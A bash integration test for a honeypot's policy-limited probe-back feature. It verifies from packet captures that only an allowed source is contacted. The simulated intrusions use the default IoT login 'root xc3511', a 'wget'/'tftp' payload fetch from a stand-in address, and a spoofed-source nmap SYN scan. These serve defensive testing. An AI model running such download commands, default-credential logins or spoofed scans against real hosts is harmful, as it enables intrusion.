#!/bin/bash
# Nothing leaves that the policy did not allow, seen on the wire: who was refused, held out, opted
# out, spoofed, or only named in a decoy's shell receives no packet that we began.
# (Questions, credentials and the packets of a look: active_capture.sh.  The decoys' calls: passive_strace.sh.)
. "$(dirname "$0")/lib.sh"
two_networks
for tool in nmap busybox curl; do command -v $tool >/dev/null || skip "$tool is missing"; done
ALLOWED=203.0.113.10 GUESSED=203.0.113.20 OPTED=203.0.113.30 LATE=203.0.113.40
HALF=203.0.113.50 HELD=203.0.113.60 SILENT=203.0.113.70 OUTSIDER=11.7.0.1 NAMED=203.0.113.99
mkdir "$WORK/out" && echo "$OPTED" >"$WORK/out/optout" && chmod 755 "$WORK/out" && chmod 644 "$WORK/out/optout"
loopback_config <<EOT
operator: {name: Test CSIRT, contact: abuse@example.org, page: "https://example.org/probing"}
store: {linger: 50ms}
passive:
  workers: 1
  decoys:
    - {prefix: 192.0.2.0/26, personas: [camera]}
    - {prefix: 192.0.2.64/26, personas: [camera], react: false}
  services: {telnet: {ports: [23]}, http: {ports: [80]}}
active:
  scope: [{prefix: 203.0.113.0/24, special: allow}]
  addresses: [198.51.100.9]
  opt_out: $WORK/out/optout
  network_looks: 0
  hold_out: 0
  packets_per_port: 20
  packets_max: 60
control: {silent_decoys: 0}
prober: {pause: 0s}
rules:
  - {name: intruder, on: login.tried, when: {login.accepted: true}, do: probe, ports: [23, 80, 8080], delay: 3s}
  - {name: visitor, on: request.seen, do: probe, hold_out: 1, delay: 0s}
EOT
mkdir "$WORK/www" && echo '<title>DVR</title>' >"$WORK/www/index.html" && chmod -R a+rX "$WORK/www"
SERVERS=
ip netns exec $OUTSIDE busybox telnetd -F -b $ALLOWED:23 -l /bin/false & SERVERS="$SERVERS $!"
ip netns exec $OUTSIDE busybox httpd -f -p $ALLOWED:80 -h "$WORK/www" & SERVERS="$SERVERS $!"
start_kansoku
capture_begin

attack() { intrude_from "$1" "${2:-192.0.2.1}" root xc3511 "${3:-id}" exit >"$WORK/said" && grep -aq '# ' "$WORK/said" || fail "$1 did not get in: $(cat "$WORK/said")"; }
attack $ALLOWED 192.0.2.1 "wget http://$NAMED/x; tftp -g -r y $NAMED; ping -c 1 $NAMED; telnet $NAMED"
attack $ALLOWED 192.0.2.2 # once more, from another decoy: still one look
intrude_from $GUESSED 192.0.2.1 root wrong >/dev/null
attack $OPTED
attack $SILENT 192.0.2.65
attack $OUTSIDER
ip netns exec $OUTSIDE curl -s -m 10 --interface $HELD -o /dev/null http://192.0.2.1/
# SYN, SYN-ACK, RST: no handshake.  And one whose answer goes to somebody who never asked.
ip netns exec $OUTSIDE nmap -n -Pn -sS -p 23,80 -S $HALF -e wire 192.0.2.1 >"$WORK/nmap" 2>&1
# A look that was allowed but waits: the wish counts within a second.
attack $LATE
for _ in $(seq 100); do
	[ "$(query "SELECT count() FROM log WHERE src = '$LATE' AND decision = 'allowed'" 2>/dev/null)" = 1 ] && break
	sleep 0.1
done
echo "$LATE" >>"$WORK/out/optout"
for _ in $(seq 100); do
	[ "$(query "SELECT count() FROM log WHERE src = '$ALLOWED' AND kind = 'host.answered'" 2>/dev/null)" -ge 3 ] && break
	sleep 0.2
done
sleep 2
capture_end

decided() { # address, what
	local got
	for _ in $(seq 50); do
		got=$(query "SELECT DISTINCT concat(decision, ' ', reason) AS d FROM log WHERE src = '$1' AND kind = 'decision.made' ORDER BY d" | xargs)
		[ "$got" = "$2" ] && return
		sleep 0.2
	done
	fail "decisions about $1: \"$got\", expected \"$2\""
}
decided $GUESSED ""
decided $HALF ""
decided $OPTED "refused opted-out"
decided $SILENT "held-out silent-decoy"
decided $OUTSIDER "refused scope"
decided $LATE "allowed ok withdrawn opted-out"
[[ $(query "SELECT decision FROM log WHERE src = '$HELD' AND kind = 'decision.made'") == held-out* ]] || fail "$HELD was not held out"

OURS='(ip.src == 198.51.100.1 or ip.src == 198.51.100.9 or ip.src == 192.0.2.0/25)'
BEGUN='tcp.flags.syn == 1 and tcp.flags.ack == 0'
[ "$(packets "ip.dst == 192.0.2.0/25 and $BEGUN" | wc -l)" -ge 9 ] || fail "the capture shows no attacks"
packets "ip.src == $HALF and $BEGUN" | grep -q . || fail "the capture shows no half-open scan"
met=$(packets "$OURS and $BEGUN" ip.dst | sort -u | xargs)
[ "$met" = "$ALLOWED" ] || fail "connections were begun to: $met; only $ALLOWED was allowed"
[ "$(packets "$OURS and $BEGUN" ip.src | sort -u)" = 198.51.100.9 ] || fail "a decoy began a connection"
other=$(packets "$OURS and not tcp" _ws.col.Info | head -3)
[ -z "$other" ] || fail "something else than TCP left: $other"
[ -z "$(packets "ip.dst == $NAMED")" ] || fail "what a visitor named was fetched"
[ "$(packets "ip.src == 198.51.100.9 and $BEGUN and not tcp.analysis.retransmission" tcp.dstport | sort -un | xargs)" = "23 80 8080" ] ||
	fail "the look did not go to the rule's ports"
sent=$(packets "ip.src == 198.51.100.9 and ip.dst == $ALLOWED" | wc -l)
[ "$sent" -le 60 ] || fail "$sent packets to one host, 60 were allowed"
[ -z "$(packets "ip.src == 198.51.100.9 and (tcp contains \"xc3511\" or tcp contains \"Authorization\" or tcp contains \"root\")")" ] ||
	fail "a credential was sent to a host"
lease=$(query "SELECT count() FROM log WHERE kind = 'probe.sent' AND value[indexOf(field, 'lease')] NOT IN
	(SELECT toString(id) FROM log WHERE kind = 'decision.made' AND decision = 'allowed')" | tail -1)
[ "$lease" = 0 ] || fail "$lease questions were asked without a lease that was allowed"
stop_kansoku || fail "it did not end in order"
echo "harmless: of eight sources only the one that was allowed was asked, with $sent packets"
